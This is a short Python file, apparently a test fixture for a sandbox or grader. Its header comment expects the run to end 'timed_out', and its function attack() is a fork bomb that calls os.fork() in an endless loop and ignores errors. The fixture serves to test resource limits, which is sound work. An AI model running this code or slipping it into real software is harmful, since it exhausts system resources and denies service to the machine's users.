# End: timed_out. Forks for ever and does not take no for an answer.

import os


def attack(facts):
    while True:
        try:
            os.fork()
        except OSError:
            pass
